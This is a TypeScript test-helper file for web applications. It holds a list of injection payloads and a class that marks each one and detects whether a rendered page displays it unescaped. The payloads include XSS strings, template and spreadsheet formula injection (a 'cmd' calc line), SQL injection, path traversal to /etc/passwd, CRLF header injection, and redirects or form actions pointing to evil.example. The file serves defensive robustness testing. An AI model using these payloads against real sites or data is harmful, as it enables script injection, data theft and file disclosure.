/** Texts that break out of where a page puts them, or that are lost or changed on the way. */

/** Each calls `alert`, asks for another site, or changes what is around it, if a page lets it. */
export const hostileStrings: readonly string[] = [
  '<script>alert(1)</script>',
  '"><script>alert(2)</script>',
  "'><img src=x onerror=alert(3)>",
  '" onmouseover="alert(4)" autofocus onfocus="alert(4)" x="',
  "' onfocus='alert(5)' autofocus='",
  '<img src="https://evil.example/6.png" onerror=alert(6)>',
  '<svg onload=alert(7)>',
  '<svg><script>alert(8)</script></svg>',
  '<iframe src="javascript:alert(9)"></iframe>',
  '<a href="javascript:alert(10)" ping="https://evil.example/">x</a>',
  'javascript:alert(11)',
  'data:text/html,<script>alert(12)</script>',
  '<math><mi//xlink:href="data:x,<script>alert(13)</script>">',
  '</title><script>alert(14)</script>',
  '</textarea><script>alert(15)</script>',
  '</option></select></datalist><img src=x onerror=alert(16)>',
  '--><script>alert(17)</script><!--',
  ']]><script>alert(18)</script>',
  '<body onload=alert(19)>',
  '<details open ontoggle=alert(20)>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '</form><form action="https://evil.example/"><button>',
  '<style>*{display:none}</style><link rel=stylesheet href="https://evil.example/">',
  '<div hx-get="https://evil.example/" hx-trigger="load" data-live="/inbox/live">',
  '{{7*7}} #{7*7} <%= 7*7 %> {{constructor.constructor("alert(26)")()}}',
  '${alert(27)} `${alert(27)}` \\u003cscript\\u003ealert(27)\\u003c/script\\u003e',
  '\u202Elive\u202C \u2066evil\u2069',
  'zero\u200Bwi\u200Ddth\uFEFFjoin\u00ADer',
  '=HYPERLINK("https://evil.example","x")',
  "+1+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '-2+3',
  "Robert'); DROP TABLE students;--",
  "' OR '1'='1",
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '\u0301\u0302\u0489 lone marks',
  '%3Cscript%3Ealert(39)%3C/script%3E %0d%0aSet-Cookie: x=1',
  '&lt;script&gt;alert(40)&lt;/script&gt; &amp; &#0; &nosuch;',
  'محمد 李小龍 🎒',
  '__proto__ constructor toString',
  'two  blanks   three',
  'x×'.repeat(150),
];

/** Hostile text for fields, with a mark at its end by which a page that shows it is recognised. */
export class HostileTexts {
  private readonly made: string[] = [];

  /** All of them in one text, for a field of any length. */
  whole(): string {
    return this.marked(hostileStrings.join(' ¦ '));
  }

  /** One of the parts of at most so many characters; after the last comes the first again. */
  part(mostLength: number, number: number): string {
    const parts = partsOf(mostLength - markLength);
    return this.marked(parts[number % parts.length] ?? '');
  }

  /** The texts of the marks that a page shows, and those marks whose text is not shown as it is. */
  shownIn(page: string): { shown: string[]; changed: string[] } {
    const marks = [...page.matchAll(/‹zq(\d+)›/g)].map(([, number]) => Number(number));
    const shown = [...new Set(marks)].map((number) => this.made[number] ?? `no text ${number}`);
    const isChanged = (text: string): boolean =>
      page.split(text).length !== page.split(text.slice(text.lastIndexOf('‹zq'))).length;
    return { shown, changed: shown.filter(isChanged) };
  }

  private marked(text: string): string {
    const marked = `${text} ‹zq${this.made.length}›`;
    this.made.push(marked);
    return marked;
  }
}

const markLength = ' ‹zq999›'.length;

/** How many parts of this length hold every string that fits into one. */
export const countParts = (mostLength: number): number => partsOf(mostLength - markLength).length;

function partsOf(mostLength: number): string[] {
  const parts: string[] = [];
  for (const text of hostileStrings.filter(({ length }) => length <= mostLength)) {
    const joined = [...parts.slice(-1), text].join(' ¦ ');
    if (parts.length > 0 && joined.length <= mostLength) parts[parts.length - 1] = joined;
    else parts.push(text);
  }
  return parts;
}
